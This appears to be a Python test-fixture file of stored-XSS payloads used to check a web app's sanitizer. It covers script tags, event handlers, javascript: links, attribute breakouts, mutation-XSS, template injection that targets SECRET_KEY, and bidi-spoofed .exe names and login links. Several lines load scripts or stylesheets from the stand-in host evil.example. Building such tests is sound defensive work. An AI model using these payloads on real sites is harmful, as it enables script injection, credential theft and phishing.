"""Hostile text for the stored-XSS tests: every payload is something a person could type.

Each payload, if it ever ran, is detectable: it calls alert/confirm/prompt, sets
``window.__xss`` or ``document.body.dataset.xss``, or is an element that itself carries
``data-xss`` or ``id="xss"``, so its mere presence as a real element shows. None is longer
than 120 characters, the shortest text field a payload is stored in (the dateline), and
none holds a NUL, which PostgreSQL refuses in text.
"""

from __future__ import annotations

from dataclasses import dataclass

SCRIPT = "script"
EVENT = "event-handler"
URL = "url-scheme"
BREAKOUT = "attribute-breakout"
SVG = "svg-mathml"
EMBED = "embedding"
CSS = "css"
TEMPLATE = "template-injection"
ENTITY = "entity-encoding"
MARKDOWN = "markdown-html"
MIXED = "mixed-script"
BIDI = "bidi"

CATEGORIES = (
    SCRIPT,
    EVENT,
    URL,
    BREAKOUT,
    SVG,
    EMBED,
    CSS,
    TEMPLATE,
    ENTITY,
    MARKDOWN,
    MIXED,
    BIDI,
)
MAX_CHARS = 120

# Bidi controls, by name: the source stays readable and the test says what it uses.
LRE, RLE, PDF, LRO, RLO = "\u202a", "\u202b", "\u202c", "\u202d", "\u202e"
LRI, RLI, FSI, PDI = "\u2066", "\u2067", "\u2068", "\u2069"


@dataclass(frozen=True)
class Payload:
    name: str
    category: str
    text: str

    def __str__(self) -> str:
        return self.name


def _p(category: str, name: str, text: str) -> Payload:
    return Payload(name, category, text)


PAYLOADS: list[Payload] = [
    # ---- script tags ------------------------------------------------------------------------
    _p(SCRIPT, "script-tag", "<script>alert(1)</script>"),
    _p(SCRIPT, "script-upper-case", "<SCRIPT>alert(1)</SCRIPT>"),
    _p(SCRIPT, "script-mixed-case", "<ScRiPt>window.__xss=1;alert(1)</sCrIpT>"),
    _p(SCRIPT, "script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _p(SCRIPT, "script-src-remote", '<script src="https://evil.example/xss.js" data-xss></script>'),
    _p(SCRIPT, "script-src-data", '<script src="data:text/javascript,alert(1)" data-xss></script>'),
    _p(SCRIPT, "script-unclosed", "<script>alert(1)//"),
    _p(SCRIPT, "script-newline-in-tag", "<script\n>alert(1)</script\n>"),
    _p(SCRIPT, "script-after-textarea", "</textarea><script>alert(1)</script>"),
    _p(SCRIPT, "script-after-title", "</title><script>alert(1)</script>"),
    _p(SCRIPT, "script-after-script", "</script><script>alert(1)</script><script>"),
    _p(
        SCRIPT,
        "script-in-comment",
        "<!--><script>alert(1)</script>--><!-- --!><script>alert(2)</script>",
    ),
    _p(SCRIPT, "script-fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
    # ---- event handlers ---------------------------------------------------------------------
    _p(EVENT, "img-onerror", "<img src=x onerror=alert(1) data-xss>"),
    _p(
        EVENT,
        "img-onerror-marks",
        '<img src=x onerror="window.__xss=1;document.body.dataset.xss=1">',
    ),
    _p(EVENT, "svg-onload", "<svg onload=alert(1) data-xss>"),
    _p(EVENT, "svg-slash-onload", "<svg/onload=alert(1)//"),
    _p(EVENT, "body-onload", "<body onload=alert(1) data-xss>"),
    _p(
        EVENT,
        "details-ontoggle",
        "<details open ontoggle=alert(1) data-xss><summary>x</summary></details>",
    ),
    _p(EVENT, "input-autofocus", "<input autofocus onfocus=alert(1) data-xss>"),
    _p(EVENT, "video-source-onerror", "<video><source onerror=alert(1) data-xss></video>"),
    _p(EVENT, "audio-onerror", "<audio src=x onerror=prompt(1) data-xss>"),
    _p(EVENT, "marquee-onstart", "<marquee onstart=confirm(1) data-xss>x</marquee>"),
    _p(
        EVENT,
        "div-onmouseover",
        '<div id=xss onmouseover=alert(1) style="position:fixed;inset:0">x</div>',
    ),
    _p(EVENT, "img-backtick-call", "<img src=x onerror=alert`1` data-xss>"),
    _p(EVENT, "img-entity-handler", '<img src=x onerror="&#97;&#108;ert(1)" data-xss>'),
    _p(
        EVENT,
        "htmx-hx-on",
        '<div hx-get="/desk/" hx-trigger="load" hx-on::after-request="alert(1)" data-xss>x</div>',
    ),
    _p(
        EVENT,
        "css-animation-handler",
        "<style>@keyframes x{}</style>"
        '<b style="animation-name:x" onanimationstart=alert(1) data-xss>',
    ),
    # ---- javascript:, vbscript: and data: addresses -----------------------------------------
    _p(URL, "md-link-javascript", "[click me](javascript:alert(1))"),
    _p(URL, "md-link-mixed-case", "[click me](JaVaScRiPt:alert(1))"),
    _p(URL, "md-link-entities", "[click me](&#106;avascript&#58;alert(1))"),
    _p(URL, "md-link-tab-in-scheme", "[click me](<java\tscript:alert(1)>)"),
    _p(URL, "md-link-vbscript", "[click me](vbscript:msgbox(1))"),
    _p(
        URL,
        "md-link-data",
        "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    ),
    _p(URL, "md-autolink-javascript", "<javascript:alert(1)>"),
    _p(URL, "md-autolink-data", "<data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>"),
    _p(URL, "md-reference-link", "[click me][1]\n\n[1]: javascript:alert(1)"),
    _p(URL, "md-image-javascript", "![x](javascript:alert(1))"),
    _p(URL, "html-a-javascript", '<a href="javascript:alert(1)" data-xss>click</a>'),
    _p(URL, "html-a-vbscript", "<a href=vbscript:msgbox(1) data-xss>click</a>"),
    _p(URL, "html-a-data", '<a href="data:text/html,<script>alert(1)</script>" data-xss>click</a>'),
    _p(URL, "html-a-control-prefix", '<a href="&#14;java&#10;script:alert(1)" data-xss>click</a>'),
    _p(
        URL,
        "button-formaction",
        "<form><button formaction=javascript:alert(1) data-xss>go</button></form>",
    ),
    # ---- breaking out of an attribute or a string -------------------------------------------
    _p(BREAKOUT, "double-quote-script", '"><script>alert(1)</script>'),
    _p(BREAKOUT, "single-quote-img", "'><img src=x onerror=alert(1) data-xss>"),
    _p(BREAKOUT, "double-quote-handler", '" autofocus onfocus="alert(1)" data-xss="'),
    _p(BREAKOUT, "single-quote-handler", "' autofocus onfocus='alert(1)' data-xss='"),
    _p(BREAKOUT, "unquoted-handler", "x id=xss onmouseover=alert(1) data-xss"),
    _p(BREAKOUT, "backtick-img", "`><img src=x onerror=alert(1) data-xss>"),
    _p(BREAKOUT, "newline-handler", '"\nonmouseover=alert(1) data-xss x="'),
    _p(BREAKOUT, "js-string-double", '\\";alert(1);//'),
    _p(BREAKOUT, "js-string-single", "';alert(1);//"),
    _p(BREAKOUT, "link-url-breakout", '[x](https://example.org/"><svg/onload=alert(1)>)'),
    _p(BREAKOUT, "link-title-breakout", '[x](https://example.org "\\" onmouseover=\\"alert(1)")'),
    # ---- SVG and MathML ---------------------------------------------------------------------
    _p(SVG, "svg-script", "<svg><script>alert(1)</script></svg>"),
    _p(
        SVG,
        "svg-xlink-href",
        '<svg><a xlink:href="javascript:alert(1)"><text x=9 y=20 data-xss>x</text></a></svg>',
    ),
    _p(
        SVG,
        "svg-animate-onbegin",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s data-xss></svg>",
    ),
    _p(
        SVG,
        "svg-set-href",
        "<svg><a><set attributeName=href to=javascript:alert(1) />"
        "<text y=9 data-xss>x</text></a></svg>",
    ),
    _p(
        SVG,
        "svg-foreignobject",
        "<svg><foreignObject>"
        '<iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    ),
    _p(
        SVG, "math-href", '<math><mtext><a href="javascript:alert(1)" data-xss>x</a></mtext></math>'
    ),
    _p(
        SVG,
        "math-mglyph-mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1) data-xss>",
    ),
    _p(
        SVG,
        "svg-style-mxss",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1) data-xss>">',
    ),
    _p(
        SVG,
        "noscript-mxss",
        '<noscript><p title="</noscript><img src=x onerror=alert(1) data-xss>">',
    ),
    # ---- frames, plugins, forms, refresh and base -------------------------------------------
    _p(EMBED, "iframe-javascript", '<iframe src="javascript:alert(1)" data-xss></iframe>'),
    _p(
        EMBED,
        "iframe-srcdoc",
        '<iframe srcdoc="<script>parent.alert(1)</script>" data-xss></iframe>',
    ),
    _p(EMBED, "object-data", '<object data="javascript:alert(1)" data-xss></object>'),
    _p(EMBED, "embed-data", '<embed src="data:text/html,<script>alert(1)</script>" data-xss>'),
    _p(
        EMBED,
        "form-action",
        '<form action="javascript:alert(1)" data-xss><input type=submit value=go></form>',
    ),
    _p(
        EMBED,
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)" data-xss>',
    ),
    _p(EMBED, "base-href", '<base href="https://evil.example/" data-xss>'),
    _p(
        EMBED, "link-stylesheet", '<link rel=stylesheet href="https://evil.example/x.css" data-xss>'
    ),
    _p(EMBED, "frameset-onload", "<frameset onload=alert(1) data-xss>"),
    # ---- CSS ----------------------------------------------------------------------------------
    _p(CSS, "style-import", '<style data-xss>@import "https://evil.example/x.css";</style>'),
    _p(
        CSS,
        "style-url-javascript",
        '<style data-xss>body{background:url("javascript:alert(1)")}</style>',
    ),
    _p(CSS, "style-attr-expression", '<div style="width:expression(alert(1))" data-xss>x</div>'),
    _p(
        CSS,
        "style-attr-url-javascript",
        '<div style="background:url(javascript:alert(1))" data-xss>x</div>',
    ),
    _p(
        CSS,
        "style-attr-binding",
        '<b style="behavior:url(x.htc);-moz-binding:url(//evil.example/x.xml#x)" data-xss>b</b>',
    ),
    _p(CSS, "style-breakout", "</style><script>alert(1)</script>"),
    # ---- template injection -----------------------------------------------------------------
    _p(
        TEMPLATE,
        "django-variables",
        "{{ settings.SECRET_KEY }}{{ request.user.password }}{{ csrf_token }}",
    ),
    _p(TEMPLATE, "django-tags", "{% debug %}{% load static %}{% csrf_token %}"),
    _p(
        TEMPLATE,
        "django-autoescape-off",
        "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}",
    ),
    _p(TEMPLATE, "angular-constructor", "{{constructor.constructor('alert(1)')()}}"),
    _p(TEMPLATE, "other-engines", "${alert(1)}{{7*7}}<%= 7*7 %>#{7*7}"),
    _p(
        TEMPLATE, "placeholder-braces", "{1}{2}{99} {०} {1}<img src=x onerror=alert(1) data-xss>{2}"
    ),
    # ---- entity-encoded and double-encoded markup -------------------------------------------
    _p(ENTITY, "entity-named", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    _p(ENTITY, "entity-double", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    _p(ENTITY, "entity-triple", "&amp;amp;lt;img src=x onerror=alert(1) data-xss&amp;amp;gt;"),
    _p(ENTITY, "entity-decimal", "&#60;img src=x onerror=alert(1) data-xss&#62;"),
    _p(ENTITY, "entity-hex", "&#x3C;svg onload=alert(1) data-xss&#x3E;"),
    _p(ENTITY, "entity-no-semicolon", "&#60img src=x onerror=alert(1) data-xss&#62"),
    _p(ENTITY, "percent-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    _p(ENTITY, "js-unicode-escapes", "\\u003cimg src=x onerror=alert(1) data-xss\\u003e"),
    _p(ENTITY, "utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    # ---- raw HTML in Markdown ---------------------------------------------------------------
    _p(MARKDOWN, "md-html-block", "<div data-xss>\n\n<script>alert(1)</script>\n\n</div>"),
    _p(MARKDOWN, "md-comment-then-html", "<!-- note -->\n<img src=x onerror=alert(1) data-xss>"),
    _p(MARKDOWN, "md-inline-html", "**Bold** and <span id=xss onclick=alert(1)>inline html</span>"),
    _p(MARKDOWN, "md-code-span", "`<script>alert(1)</script>`"),
    _p(MARKDOWN, "md-fenced-code", "```html\n<script>alert(1)</script>\n```"),
    _p(MARKDOWN, "md-escaped-brackets", "\\<script>alert(1)\\</script>"),
    _p(MARKDOWN, "md-table-cell", "| a |\n|---|\n| <img src=x onerror=alert(1) data-xss> |"),
    _p(MARKDOWN, "md-heading", "# <svg onload=alert(1) data-xss>"),
    _p(MARKDOWN, "md-blockquote", "> <iframe src=javascript:alert(1) data-xss>"),
    _p(
        MARKDOWN,
        "md-link-text-html",
        "[<img src=x onerror=alert(1) data-xss>](https://example.org/)",
    ),
    _p(MARKDOWN, "md-attribute-syntax", "[x](https://example.org/){onclick=alert(1)}"),
    _p(MARKDOWN, "md-list-item", "- one\n- <details open ontoggle=alert(1) data-xss>two</details>"),
    # ---- payloads inside Hindi, Bengali and Urdu sentences ----------------------------------
    _p(MIXED, "hindi-script", "हम माँग करते हैं <script>alert(1)</script> कि बकाया मज़दूरी तुरंत दी जाए।"),
    _p(
        MIXED,
        "hindi-img",
        "दिल्ली में 1,413 मज़दूरों <img src=x onerror=alert(1) data-xss> को मज़दूरी नहीं मिली।",
    ),
    _p(MIXED, "hindi-link", "पूरी रिपोर्ट [यहाँ पढ़ें](javascript:alert(1)) और साझा करें।"),
    _p(MIXED, "hindi-template", "बयान पर {{ settings.SECRET_KEY }} {% debug %} हस्ताक्षर"),
    _p(MIXED, "bengali-svg", "কলকাতায় শ্রমিকরা <svg onload=alert(1) data-xss> তিন মাস মজুরি পাননি।"),
    _p(MIXED, "bengali-breakout", 'মজুরি নিয়ে বিবৃতি "><img src=x onerror=alert(1) data-xss>'),
    _p(
        MIXED,
        "urdu-details",
        "دہلی میں مزدوروں <details open ontoggle=alert(1) data-xss>کو</details> اجرت نہیں ملی۔",
    ),
    _p(MIXED, "urdu-textarea-breakout", "اجرت پر بیان </textarea><script>alert(1)</script> جاری"),
    _p(MIXED, "urdu-entities", "اعلان &lt;img src=x onerror=alert(1) data-xss&gt; پڑھیں"),
    # ---- bidi overrides and isolates --------------------------------------------------------
    _p(BIDI, "rlo-file-name", f"Download salary_slip{RLO}fdp.exe"),
    _p(
        BIDI,
        "rlo-link-text",
        f"[https://statements.example.org/{RLO}gro.live](https://evil.example/)",
    ),
    _p(BIDI, "rlo-script", f"{RLO}<script>alert(1)</script>{PDF}"),
    _p(BIDI, "lro-javascript-link", f"[{LRO}click{PDF}](javascript:alert(1))"),
    _p(BIDI, "rle-inside-tag", f"<{RLE}script>alert(1)</script>"),
    _p(BIDI, "lre-url", f"Verify at {LRE}https://evil.example/login{PDF} today"),
    _p(BIDI, "lri-url", f"See {LRI}https://evil.example/login{PDI} to verify"),
    _p(BIDI, "rli-urdu-file-name", f"رپورٹ {RLI}fdp.exe{PDI} ڈاؤن لوڈ کریں"),
    _p(BIDI, "fsi-img", f"{FSI}<img src=x onerror=alert(1) data-xss>{PDI}"),
    _p(BIDI, "pdi-breakout", f'{PDI}"><svg onload=alert(1) data-xss>'),
]

BY_NAME = {p.name: p for p in PAYLOADS}
# Bidi controls the reader pages promise to remove (translations.markup): embeddings and
# overrides. Isolates stay, as Urdu text with English names in it needs them.
OVERRIDES = frozenset((LRE, RLE, PDF, LRO, RLO))
